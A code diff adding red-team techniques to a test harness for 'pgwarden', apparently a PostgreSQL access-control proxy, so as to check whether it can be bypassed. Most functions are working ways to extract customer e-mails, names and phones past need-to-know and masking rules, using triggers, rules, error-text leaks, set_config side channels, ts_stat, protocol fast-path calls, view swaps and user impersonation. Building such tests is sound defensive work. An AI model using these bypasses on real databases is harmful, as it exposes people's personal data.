@@ -1048,6 +1048,687 @@ def t_self_assign(ctx: Ctx) -> None:
                 )
 
 
+# -- rt2: partitions, joins and other new ground --------------------------------------------
+
+
+@technique("rows")
+def t_partition_paging(ctx: Ctx) -> None:
+    """A partition of the need-to-know table crm.customer_phones read by its own name, 15
+    customers a statement, paging on."""
+    c = ctx.connect()
+    streak = [0]
+    for a in range(1, N_ALL, 15):
+        r = ctx.q(c, f"SELECT customer_id, phone FROM customer_phones_mobile "
+                     f"WHERE customer_id BETWEEN {a} AND {a + 14}")  # fmt: skip
+        if _stop_after(ctx, streak, r is not None):
+            break
+
+
+@technique("rows")
+def t_partition_pair_join(ctx: Ctx) -> None:
+    """Both partitions in one row, joined on an offset key: 20 rows, 40 customers."""
+    c = ctx.connect()
+    streak = [0]
+    for a in range(1, sdb.CUSTOMERS - 1000, 60):
+        r = ctx.q(c, "SELECT a.customer_id, a.phone, b.phone FROM customer_phones_mobile a "
+                     "JOIN customer_phones_other b ON b.customer_id = a.customer_id + 1000 "
+                     f"WHERE a.customer_id BETWEEN {a} AND {a + 59}")  # fmt: skip
+        if _stop_after(ctx, streak, r is not None):
+            break
+
+
+@technique("rows")
+def t_rule_instead_select(ctx: Ctx) -> None:
+    """A table of one's own with a DO INSTEAD SELECT rule: the INSERT returns the rule's rows."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TABLE scratch.rt2_rule (id bigint, v text)")
+    ctx.q(c, "CREATE RULE rt2_rule_ins AS ON INSERT TO scratch.rt2_rule DO INSTEAD "
+             'SELECT customer_id, "Email", "FullName" FROM crm.customers')  # fmt: skip
+    time.sleep(2)  # the catalog is reloaded after DDL
+    ctx.q(c, "INSERT INTO scratch.rt2_rule VALUES (1, 'x')")
+
+
+@technique("error")
+def t_trigger_raise(ctx: Ctx) -> None:
+    """A trigger on a table of one's own raises the customers it reads: the INSERT names no
+    labelled column, so its error text is relayed."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TABLE scratch.rt2_tg (id bigint)")
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_tgf() RETURNS trigger LANGUAGE plpgsql AS $f$ DECLARE s text; BEGIN "
+             "SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') INTO s FROM crm.customers "
+             "WHERE customer_id BETWEEN NEW.id AND NEW.id + 999; RAISE EXCEPTION '%', s; END $f$")  # fmt: skip
+    ctx.q(c, "CREATE TRIGGER rt2_tg_b BEFORE INSERT ON scratch.rt2_tg FOR EACH ROW "
+             "EXECUTE FUNCTION scratch.rt2_tgf()")  # fmt: skip
+    time.sleep(2)
+    for a in range(1, N_ALL, 1000):
+        ctx.q(c, f"INSERT INTO scratch.rt2_tg VALUES ({a})")
+
+
+@technique("rows")
+def t_trigger_copy(ctx: Ctx) -> None:
+    """An AFTER INSERT trigger copies the customer table into a table of one's own; the copy
+    is written by no statement pgwarden sees, so it is read as unlabelled."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TABLE scratch.rt2_tc (id bigint)")
+    ctx.q(c, "CREATE TABLE scratch.rt2_tc_loot (id bigint, e text, n text)")
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_tcf() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN "
+             'INSERT INTO scratch.rt2_tc_loot SELECT customer_id, "Email", "FullName" FROM crm.customers; '
+             "RETURN NEW; END $f$")  # fmt: skip
+    ctx.q(c, "CREATE TRIGGER rt2_tc_a AFTER INSERT ON scratch.rt2_tc FOR EACH ROW "
+             "EXECUTE FUNCTION scratch.rt2_tcf()")  # fmt: skip
+    time.sleep(2)
+    ctx.q(c, "INSERT INTO scratch.rt2_tc VALUES (1)")
+    ctx.q(c, "SELECT id, e, n FROM scratch.rt2_tc_loot WHERE id > 0")
+
+
+_RT2_AGG = (  # a plpgsql body: the customers with keys a..b, packed into one text
+    "DECLARE s text; BEGIN SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') INTO s "
+    "FROM crm.customers WHERE customer_id BETWEEN a AND b; "
+)
+
+
+@technique("rows")
+def t_column_default(ctx: Ctx) -> None:
+    """A column DEFAULT calling a function of one's own; INSERT ... RETURNING reads it back."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_dflt() RETURNS text LANGUAGE plpgsql AS $f$ DECLARE a bigint := 1; "
+             f"b bigint := {N_ALL}; {_RT2_AGG} RETURN s; END $f$")  # fmt: skip
+    ctx.q(c, "CREATE TABLE scratch.rt2_df (id bigint, v text DEFAULT scratch.rt2_dflt())")
+    time.sleep(2)
+    ctx.q(c, "INSERT INTO scratch.rt2_df (id) VALUES (1) RETURNING id, v")
+
+
+@technique("rows")
+def t_operator_function(ctx: Ctx) -> None:
+    """A user-defined operator whose function reads customers: 1 OPERATOR(~~~) 3300."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_opf(a int, b int) RETURNS text LANGUAGE plpgsql AS $f$ "
+             f"{_RT2_AGG} RETURN s; END $f$")  # fmt: skip
+    ctx.q(
+        c, "CREATE OPERATOR scratch.~~~ (FUNCTION = scratch.rt2_opf, LEFTARG = int, RIGHTARG = int)"
+    )
+    time.sleep(2)
+    ctx.q(c, f"SELECT 1 OPERATOR(scratch.~~~) {N_ALL}")
+
+
+@technique("rows")
+def t_user_cast(ctx: Ctx) -> None:
+    """A composite type of one's own with a cast to text through a function reading customers."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TYPE scratch.rt2_tk AS (a int, b int)")
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_castf(x scratch.rt2_tk) RETURNS text LANGUAGE plpgsql AS $f$ "
+             "DECLARE a bigint := x.a; b bigint := x.b; " + _RT2_AGG.removeprefix("DECLARE ")
+             + " RETURN s; END $f$")  # fmt: skip
+    ctx.q(c, "CREATE CAST (scratch.rt2_tk AS text) WITH FUNCTION scratch.rt2_castf(scratch.rt2_tk)")
+    time.sleep(2)
+    ctx.q(c, f"SELECT ROW(1, {N_ALL})::scratch.rt2_tk::text")
+
+
+@technique("rows")
+def t_generated_column(ctx: Ctx) -> None:
+    """A STORED generated column over a function falsely declared IMMUTABLE."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_imm(a bigint) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ "
+             "DECLARE b bigint := a + 999; " + _RT2_AGG.removeprefix("DECLARE ") + " RETURN s; END $f$")  # fmt: skip
+    ctx.q(
+        c,
+        "CREATE TABLE scratch.rt2_gen (id bigint, v text GENERATED ALWAYS AS (scratch.rt2_imm(id)) STORED)",
+    )
+    time.sleep(2)
+    for a in range(1, N_ALL, 1000):
+        ctx.q(c, f"INSERT INTO scratch.rt2_gen (id) VALUES ({a}) RETURNING id, v")
+
+
+@technique("error")
+def t_index_expression_raise(ctx: Ctx) -> None:
+    """CREATE INDEX on an expression whose (IMMUTABLE-declared) function raises the customers."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TABLE scratch.rt2_ix (id bigint)")
+    ctx.q(c, "INSERT INTO scratch.rt2_ix VALUES (1)")
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_boomi(a bigint) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ "
+             f"DECLARE b bigint := {N_ALL}; " + _RT2_AGG.removeprefix("DECLARE ")
+             + " RAISE EXCEPTION '%', s; END $f$")  # fmt: skip
+    time.sleep(2)
+    ctx.q(c, "CREATE INDEX ON scratch.rt2_ix ((scratch.rt2_boomi(id)))")
+
+
+@technique("rows")
+def t_view_swap_in_transaction(ctx: Ctx) -> None:
+    """A harmless view of one's own, known to pgwarden; inside a transaction it is replaced by
+    one over crm.customers and read at once. pgwarden's catalog is reloaded from committed
+    state, so it still sees the harmless view; the ROLLBACK leaves no trace."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE VIEW scratch.rt2_sw AS SELECT 1::bigint AS id, 'x'::text AS e, 'y'::text AS n")
+    time.sleep(2)
+    t = ctx.connect()
+    ctx.q(t, "BEGIN")
+    ctx.q(t, "CREATE OR REPLACE VIEW scratch.rt2_sw AS "
+             'SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM crm.customers')  # fmt: skip
+    time.sleep(2)  # however long it takes: the replaced view is not committed
+    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_sw WHERE id > 0")
+    ctx.q(t, "ROLLBACK")
+
+
+@technique("rows")
+def t_view_swap_multistatement(ctx: Ctx) -> None:
+    """The same swap in one simple-query string: replace the view, then read it."""
+    c = ctx.connect()
+    harmless = "CREATE OR REPLACE VIEW scratch.rt2_sw2 AS SELECT 1::bigint AS id, 'x'::text AS e"
+    ctx.q(c, harmless)
+    time.sleep(2)
+    ctx.q(c, "CREATE OR REPLACE VIEW scratch.rt2_sw2 AS SELECT customer_id AS id, "
+             '"Email" || \' \' || "FullName" AS e FROM crm.customers; '
+             "SELECT id, e FROM scratch.rt2_sw2 WHERE id > 0")  # fmt: skip
+
+
+@technique("rows")
+def t_function_replace_in_transaction(ctx: Ctx) -> None:
+    """A harmless SQL function of one's own; inside a transaction its body is replaced by a
+    read of crm.customers and called; rolled back after."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_fy(a bigint) RETURNS TABLE (id bigint, e text, n text) "
+             "LANGUAGE sql AS $f$ SELECT a, 'x'::text, 'y'::text $f$")  # fmt: skip
+    time.sleep(2)
+    t = ctx.connect()
+    ctx.q(t, "BEGIN")
+    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_fy(1)")
+    ctx.q(t, "CREATE OR REPLACE FUNCTION scratch.rt2_fy(a bigint) RETURNS TABLE (id bigint, e text, n text) "
+             'LANGUAGE sql AS $f$ SELECT customer_id, "Email", "FullName" FROM crm.customers '
+             "WHERE customer_id >= a $f$")  # fmt: skip
+    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_fy(1)")
+    ctx.q(t, "ROLLBACK")
+
+
+@technique("rows")
+def t_rename_swap_prepared(ctx: Ctx) -> None:
+    """PREPARE over an empty table of one's own; in a transaction the table is renamed away
+    and a view over crm.customers takes its name; EXECUTE replans against it."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TABLE scratch.rt2_pp (id bigint, e text, n text)")
+    time.sleep(2)
+    t = ctx.connect()
+    ctx.q(t, "BEGIN")
+    ctx.q(
+        t,
+        "PREPARE rt2_pp(bigint, bigint) AS SELECT id, e, n FROM scratch.rt2_pp WHERE id BETWEEN $1 AND $2",
+    )
+    ctx.q(t, "EXECUTE rt2_pp(1, 700)")
+    ctx.q(t, "ALTER TABLE scratch.rt2_pp RENAME TO rt2_pp_old")
+    ctx.q(t, "CREATE VIEW scratch.rt2_pp AS "
+             'SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM crm.customers')  # fmt: skip
+    for a in range(1, N_ALL, 700):  # in chunks: a chunk with a canary is cut, the others are not
+        if ctx.q(t, f"EXECUTE rt2_pp({a}, {a + 699})") is None:
+            break
+    ctx.q(t, "ROLLBACK")
+
+
+@technique("rows")
+def t_set_config_side_channel(ctx: Ctx) -> None:
+    """No DDL, plain SELECTs: the WHERE clause appends every customer's e-mail and name to a
+    custom setting and is false, so no row (and no key to check) comes back; the setting is
+    read with current_setting() afterwards."""
+    c = ctx.connect()
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
+                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
+                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
+        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")
+
+
+@technique("rows")
+def t_ts_stat_query(ctx: Ctx) -> None:
+    """ts_stat() runs the query it is given as text and returns its words: every e-mail."""
+    c = ctx.connect()
+    ctx.q(c, "SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', \"Em' || 'ail\") "
+             "FROM crm.customers')")  # fmt: skip
+    ctx.q(c, "SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', replace(phone, '' '', ''''))"
+             " FROM crm.customer_phones')")  # fmt: skip
+
+
+@technique("rows")
+def t_stash_function_in_where(ctx: Ctx) -> None:
+    """A SQL function of one's own that INSERTs its arguments, called in the WHERE clause with
+    each customer's values; the WHERE is false for all, the stash is read after."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TABLE scratch.rt2_st (k bigint, e text, n text)")
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_stash(k bigint, e text, n text) RETURNS boolean LANGUAGE sql "
+             "AS 'INSERT INTO scratch.rt2_st VALUES (k, e, n) RETURNING false'")  # fmt: skip
+    time.sleep(2)
+    ctx.q(c, 'SELECT customer_id FROM customers WHERE customer_id > 0 '
+             'AND scratch.rt2_stash(customer_id, "Email", "FullName")')  # fmt: skip
+    ctx.q(c, "SELECT k, e, n FROM scratch.rt2_st WHERE k > 0")
+
+
+def _fastpath_call(ctx: Ctx, conn: psycopg.Connection, oid: int, args: list[str]) -> str:
+    """Send one protocol-level FunctionCall ('F') message on an idle psycopg connection's
+    socket (libpq's PQfn, the fast-path interface) and read the answer up to ReadyForQuery.
+    Returns the text of everything received (result value and any error)."""
+    import socket
+    import struct
+
+    body = struct.pack("!I", oid) + struct.pack("!hh", 1, 0) + struct.pack("!h", len(args))
+    for a in args:
+        b = a.encode()
+        body += struct.pack("!i", len(b)) + b
+    body += struct.pack("!h", 0)
+    msg = b"F" + struct.pack("!I", len(body) + 4) + body
+    ctx.stmt += 1
+    ctx.out.statements += 1
+    s = socket.socket(fileno=__import__("os").dup(conn.pgconn.socket))
+    s.settimeout(HANG_SECONDS)
+    buf = b""
+    texts: list[str] = []
+    try:
+        s.sendall(msg)
+        while True:
+            while len(buf) < 5:
+                chunk = s.recv(65536)
+                if not chunk:
+                    raise ConnectionError("connection closed")
+                buf += chunk
+            n = struct.unpack("!I", buf[1:5])[0]
+            while len(buf) < 1 + n:
+                chunk = s.recv(65536)
+                if not chunk:
+                    raise ConnectionError("connection closed")
+                buf += chunk
+            kind, payload, buf = buf[0:1], buf[5 : 1 + n], buf[1 + n :]
+            text = payload.decode(errors="replace")
+            if kind == b"E":
+                fields = dict((f[:1], f[1:]) for f in text.split("\0") if f)
+                ctx.seen("error", text)
+                ctx.out.errors += 1
+                if fields.get("C") == "42501" and "pgwarden" in text:
+                    ctx.out.refused += 1
+                    ctx.last_refused = True
+                elif fields.get("C", "").startswith("XX"):
+                    ctx.out.internal_errors.append(text[:200])
+            elif kind == b"V":
+                ctx.seen("rows", text)
+            texts.append(text)
+            if kind == b"Z":
+                break
+    except (OSError, ConnectionError) as exc:
+        ctx.out.notes.append(f"fast-path call: {exc}")
+    finally:
+        s.close()
+    return "\n".join(texts)
+
+
+@technique("rows")
+def t_fastpath_function_call(ctx: Ctx) -> None:
+    """The protocol's FunctionCall message (libpq PQfn): query_to_xml(text, ...) called by OID,
+    no SQL statement for pgwarden to analyse."""
+    c = ctx.connect()
+    r = ctx.q(c, "SELECT 'query_to_xml(text,bool,bool,text)'::regprocedure::oid")
+    if not r:
+        return
+    _fastpath_call(ctx, c, int(r[0][0]), [
+        'SELECT "Email", "FullName" FROM crm.customers', "t", "f", ""])  # fmt: skip
+    _fastpath_call(ctx, c, int(r[0][0]), [
+        "SELECT phone FROM crm.customer_phones", "t", "f", ""])  # fmt: skip
+
+
+@technique("rows")
+def t_budget_split_tables(ctx: Ctx) -> None:
+    """Only the agent's own customers, 15 a statement, each table of customer data in turn:
+    names from crm.customers, then phones from crm.customer_phones for customers not read yet,
+    then names from crm.legacy_customers. Is the hourly budget one per person or one per table?"""
+    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
+    c = ctx.connect()
+    queries = ('SELECT customer_id, "FullName" FROM ONLY customers WHERE customer_id IN ({})',
+               "SELECT customer_id, phone FROM customer_phones WHERE customer_id IN ({})",
+               'SELECT customer_id, "FullName" FROM legacy_customers WHERE customer_id IN ({})')  # fmt: skip
+    todo = list(mine)
+    for q in queries:
+        streak = [0]
+        left = []
+        for i in range(0, len(todo), 15):
+            chunk = todo[i : i + 15]
+            before = set(ctx.out.customers)
+            r = ctx.q(c, q.format(",".join(map(str, chunk))))
+            left += [k for k in chunk if k not in ctx.out.customers - before]
+            if _stop_after(ctx, streak, r is not None, 3):
+                left += todo[i + 15 :]
+                break
+        todo = left
+
+
+@technique("rows")
+def t_directory_own_customers(ctx: Ctx) -> None:
+    """Honest use: the agent reads its own customers from the reporting directory with the key
+    column selected, as the need-to-know hint asks."""
+    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))[:3]
+    c = ctx.connect()
+    for k in mine:
+        ctx.q(
+            c,
+            f"SELECT customer_id, full_name, email, phone FROM customer_directory WHERE customer_id = {k}",
+        )
+
+
+@technique("rows")
+def t_quarantine_traps_transaction(ctx: Ctx) -> None:
+    """An agent in a transaction runs into quarantine (one refused statement, then four more
+    the aborted transaction makes the server reject). Can it still ROLLBACK?"""
+    mine = ctx.env.ds.open_tickets(ATTACKER)[0]
+    c = ctx.connect()
+    ctx.q(c, "BEGIN")
+    ctx.q(c, f'UPDATE "Tickets" SET updated_at = now() WHERE ticket_id = {mine.ticket_id}')
+    for _ in range(5):
+        ctx.q(c, "SELECT * FROM customers")
+    for q in ("ROLLBACK", "COMMIT", "SELECT 1"):
+        try:
+            c.execute(q)
+            what = "ok"
+        except psycopg.Error as exc:
+            ctx._error(exc)
+            what = f"{exc.sqlstate}: {str(exc).strip().splitlines()[0][:110]}"
+        ctx.out.notes.append(
+            f"{q} after quarantine: {what}; transaction status {c.info.transaction_status.name}"
+        )
+    with psycopg.connect(ctx.env.pg.dsn(database=sdb.DBNAME), autocommit=True) as direct:
+        row = direct.execute("SELECT state FROM pg_stat_activity WHERE pid = %s",
+                             (c.info.backend_pid,)).fetchone()  # fmt: skip
+        ctx.out.notes.append(f"the agent's server session is left {row[0] if row else 'gone'!r}")
+
+
+@technique("rows")
+def t_ts_rewrite_query(ctx: Ctx) -> None:
+    """ts_rewrite(query, select_text) runs the SELECT it is given as text; its substitute is
+    a tsquery OR-ing every e-mail, returned as one value."""
+    c = ctx.connect()
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, to_tsquery(''simple'', "
+                 "string_agg(quote_literal(\"Em' || 'ail\"), '' | '')) FROM crm.customers "
+                 f"WHERE customer_id BETWEEN {a} AND {a + 1099}')::text")  # fmt: skip
+
+
+@technique("rows")
+def t_shared_account_set_config(ctx: Ctx) -> None:
+    """crm_app without the signing key, naming nobody: the set_config side channel."""
+    c = ctx.connect(sdb.APP_USER)
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
+                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
+                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
+        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")
+
+
+@technique("rows")
+def t_analyst_set_config(ctx: Ctx) -> None:
+    """The analyst (masked contact data): the set_config side channel carries the unmasked
+    values, the WHERE clause being false for every row."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    for a in range(1, N_ALL, 1100):
+        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
+                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
+                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
+        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")
+
+
+@technique("rows")
+def t_analyst_fastpath(ctx: Ctx) -> None:
+    """The analyst: query_to_xml called through the protocol's FunctionCall message."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    r = ctx.q(c, "SELECT 'query_to_xml(text,bool,bool,text)'::regprocedure::oid")
+    if r:
+        _fastpath_call(ctx, c, int(r[0][0]), [
+            "SELECT \"Email\", \"FullName\" FROM crm.customers WHERE tier = 'vip'", "t", "f", ""])  # fmt: skip
+
+
+@technique("rows")
+def t_self_assign_via_function(ctx: Ctx) -> None:
+    """As self_assign, but the UPDATE of assigned_agent_id (refused at top level) is the body
+    of a SQL function of one's own, called from a SELECT. As in self_assign, customers of
+    reassigned tickets count as inside need-to-know (the policy's own definition); how many
+    were another agent's is noted. The tickets are given back after."""
+    ds = ctx.env.ds
+    aid = ds.agent_id(ATTACKER)
+    others = [
+        t
+        for t in ds.tickets
+        if t.agent_id not in (None, aid) and t.status != "closed" and not t.restricted
+    ][:400]
+    before = set(ctx.out.ntk)
+    ctx.out.ntk = before | {t.customer_id for t in others}
+    c = ctx.connect()
+    ids = ",".join(str(t.ticket_id) for t in others)
+    try:
+        ctx.q(c, "CREATE FUNCTION scratch.rt2_take(a int) RETURNS bigint LANGUAGE sql AS "
+                 f"'UPDATE crm.\"Tickets\" SET assigned_agent_id = a WHERE ticket_id IN ({ids}) "
+                 "RETURNING ticket_id'")  # fmt: skip
+        time.sleep(2)
+        r = ctx.q(c, f"SELECT scratch.rt2_take({aid})")
+        ctx.out.notes.append(f"the reassigning function returned {r!r:.60}")
+        time.sleep(11)  # the policy caches need-to-know lookups for 10 s
+        streak = [0]
+        custs = sorted({t.customer_id for t in others})
+        for i in range(0, len(custs), 15):
+            r = ctx.q(c, 'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id IN '
+                         f"({','.join(map(str, custs[i : i + 15]))})")  # fmt: skip
+            if _stop_after(ctx, streak, r is not None):
+                break
+    finally:
+        ctx.out.notes.append(
+            f"{len(ctx.out.customers - before)} customers reached the agent through tickets "
+            "reassigned to themselves by a function (the top-level UPDATE is refused)"
+        )
+        with psycopg.connect(ctx.env.pg.dsn(database=sdb.DBNAME), autocommit=True) as direct:
+            for t in others:
+                direct.execute(
+                    'UPDATE crm."Tickets" SET assigned_agent_id = %s WHERE ticket_id = %s',
+                    (t.agent_id, t.ticket_id),
+                )
+
+
+@technique("rows")
+def t_honest_shapes_refused(ctx: Ctx) -> None:
+    """Honest use: the agent's own customer (an open ticket of theirs) read in shapes an ORM or
+    a report tool writes -- a derived table, a UNION with a constant row, a CTE. Which are
+    refused, and with what reason?"""
+    k = min(ctx.env.ds.need_to_know(ATTACKER))
+    c = ctx.connect()
+    for q in (f'SELECT x.* FROM (SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}) x',
+              f'SELECT customer_id, "Email" FROM customers WHERE customer_id = {k} UNION ALL SELECT 0, \'-\'',
+              f'SELECT x.customer_id, x."Email" FROM (SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}) x',
+              f'WITH x AS (SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}) SELECT customer_id, "Email" FROM x'):  # fmt: skip
+        if ctx.q(c, q) is None:
+            ctx.out.notes.append(
+                f"refused: {q[:70]} -> {ctx.out.error_samples[-1][:110] if ctx.out.error_samples else ''}"
+            )
+
+
+@technique("rows")
+def t_agent_names_colleague(ctx: Ctx) -> None:
+    """agent_ann, logged in as herself (subject agents, no end_user_from in the policy), names
+    a colleague in a sqlcommenter comment: need-to-know and the hourly budget become the
+    colleague's. Each colleague's customers, 15 a statement, until refused."""
+    ds = ctx.env.ds
+    c = ctx.connect()
+    for who in [a for a in sdb.AGENTS if a != ATTACKER]:
+        theirs = sorted(ds.need_to_know(who) - ds.need_to_know(ATTACKER))
+        streak = [0]
+        for i in range(0, len(theirs), 15):
+            ids = ",".join(map(str, theirs[i : i + 15]))
+            r = ctx.q(c, f"/* end_user='{who}' */ SELECT customer_id, \"FullName\", \"Email\" "
+                         f"FROM customers WHERE customer_id IN ({ids})")  # fmt: skip
+            if _stop_after(ctx, streak, r is not None, 3):
+                break
+
+
+@technique("rows")
+def t_multi_table_rows(ctx: Ctx) -> None:
+    """Only the agent's own customers, but three of them a row: one from crm.customers, one
+    from crm.legacy_customers, a third one's phone from crm.customer_phones, paired by
+    array position. Each table's key is checked and each table gives 20 rows: 60 customers
+    in one statement."""
+    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
+    plain = [k for k in mine if k <= sdb.CUSTOMERS]
+    legacy = [k for k in mine if k > sdb.CUSTOMERS]
+    c = ctx.connect()
+    streak = [0]
+    for i in range(0, min(len(legacy), len(plain) // 2), 20):
+        a = ",".join(map(str, plain[2 * i : 2 * i + 20]))
+        b = ",".join(map(str, legacy[i : i + 20]))
+        p = ",".join(map(str, plain[2 * i + 20 : 2 * i + 40]))
+        r = ctx.q(c, 'SELECT c.customer_id, c."FullName", c."Email", l.customer_id, l."FullName", l."Email", '
+                     "p.customer_id, p.phone FROM ONLY customers c "
+                     f"JOIN legacy_customers l ON l.customer_id = (ARRAY[{b}])[array_position(ARRAY[{a}]::bigint[], c.customer_id)] "
+                     f"JOIN customer_phones p ON p.kind = 'mobile' AND p.customer_id = (ARRAY[{p}])[array_position(ARRAY[{a}]::bigint[], c.customer_id)] "
+                     f"WHERE c.customer_id IN ({a})")  # fmt: skip
+        if _stop_after(ctx, streak, r is not None, 3):
+            break
+
+
+@technique("rows")
+def t_analyst_temp_rule(ctx: Ctx) -> None:
+    """The analyst (SELECT and TEMPORARY only): a temporary table with a DO INSTEAD SELECT
+    rule; the INSERT returns the rule's rows, unmasked."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "CREATE TEMP TABLE rt2_tr (id int)")
+    ctx.q(c, "CREATE RULE rt2_tr_i AS ON INSERT TO pg_temp.rt2_tr DO INSTEAD "
+             "SELECT customer_id, \"Email\", \"FullName\" FROM crm.customers WHERE tier = 'vip'")  # fmt: skip
+    ctx.q(c, "INSERT INTO rt2_tr VALUES (1)")
+
+
+@technique("rows")
+def t_analyst_ts_stat(ctx: Ctx) -> None:
+    """The analyst: ts_stat() over the e-mails, unmasked."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', \"Email\") FROM crm.customers "
+             "WHERE tier = ''vip''')")  # fmt: skip
+
+
+def _q_error_fields(ctx: Ctx, conn: psycopg.Connection, query: str) -> None:
+    """Run one statement; count what reached the client also in the error's schema, table,
+    column, data type and constraint fields (which ``Ctx.q`` does not read)."""
+    ctx.stmt += 1
+    ctx.out.statements += 1
+    ctx.last_refused = False
+    dog = ctx.watchdog(conn)
+    try:
+        with conn.cursor() as cur:
+            cur.execute(ctx.sql(query))
+            if cur.description:
+                ctx.seen("rows", sdb.dump_io(cur.fetchall()))
+    except psycopg.Error as exc:
+        ctx._error(exc)
+        d = exc.diag
+        ctx.seen("error", "\n".join(v or "" for v in (d.schema_name, d.table_name, d.column_name,
+                                                       d.datatype_name, d.constraint_name)))  # fmt: skip
+    finally:
+        dog.cancel()
+
+
+@technique("error")
+def t_error_column_field(ctx: Ctx) -> None:
+    """A plpgsql function of one's own (static SQL, so pgwarden follows it) gathers e-mails
+    and names in a loop and raises with RAISE ... USING COLUMN = s: pgwarden withholds the
+    message, detail, hint and context, and relays the column-name field."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE FUNCTION scratch.rt2_colraise(a bigint, b bigint) RETURNS int LANGUAGE plpgsql AS $f$ "
+             "DECLARE s text := ''; r record; BEGIN FOR r IN SELECT \"Email\" AS e, \"FullName\" AS n "
+             "FROM crm.customers WHERE customer_id BETWEEN a AND b LOOP s := s || ',' || r.e || ' ' || r.n; "
+             "END LOOP; RAISE EXCEPTION 'x' USING COLUMN = s; END $f$")  # fmt: skip
+    time.sleep(2)
+    for a in range(1, N_ALL, 1100):
+        _q_error_fields(
+            ctx,
+            c,
+            f"SELECT scratch.rt2_colraise({a}, {a + 1099}) FROM products WHERE product_id = 1",
+        )
+
+
+@technique("rows")
+def t_deep_nesting(ctx: Ctx) -> None:
+    """Scalar subqueries nested 150 deep (no labelled data): pgwarden's analysis fails with an
+    internal error (named in the refusal); PostgreSQL itself runs the statement."""
+    c = ctx.connect()
+    for n in (100, 150):
+        if ctx.q(c, "SELECT " + "(SELECT " * n + "1" + ")" * n) is None:
+            ctx.out.notes.append(
+                f"depth {n}: {ctx.out.error_samples[-1][:160] if ctx.out.error_samples else ''}"
+            )
+
+
+@technique("rows")
+def t_analyst_typed_mask(ctx: Ctx) -> None:
+    """Honest analyst work on masked data: the length of each e-mail (an integer), whether it
+    is at one domain (a boolean), its characters as an array. pgwarden masks expressions of
+    a masked column whole, and sends '****' in a column the server declared integer, boolean
+    or text[]: can a standard client (psycopg, text format) still read the result?"""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    for q in ("SELECT customer_id, length(\"Email\") FROM customers WHERE tier = 'vip' LIMIT 5",
+              "SELECT customer_id, \"Email\" LIKE '%@post.example' FROM customers WHERE tier = 'vip' LIMIT 5",
+              "SELECT customer_id, string_to_array(\"Email\", '@') FROM customers WHERE tier = 'vip' LIMIT 5"):  # fmt: skip
+        ctx.stmt += 1
+        ctx.out.statements += 1
+        try:
+            with c.cursor() as cur:
+                cur.execute(ctx.sql(q))
+                rows = cur.fetchall()
+            ctx.seen("rows", sdb.dump_io(rows))
+            ctx.out.notes.append(f"read: {q[:60]} -> {rows[:1]!r:.60}")
+        except psycopg.Error as exc:
+            ctx._error(exc)
+            if exc.sqlstate is None:
+                ctx.out.internal_errors.append(f"client could not read the result: {q[:60]}: {exc}")
+        except ValueError as exc:  # psycopg's int/bool loaders
+            ctx.out.errors += 1
+            ctx.out.internal_errors.append(f"client could not read the result: {q[:60]}: {exc}")
+
+
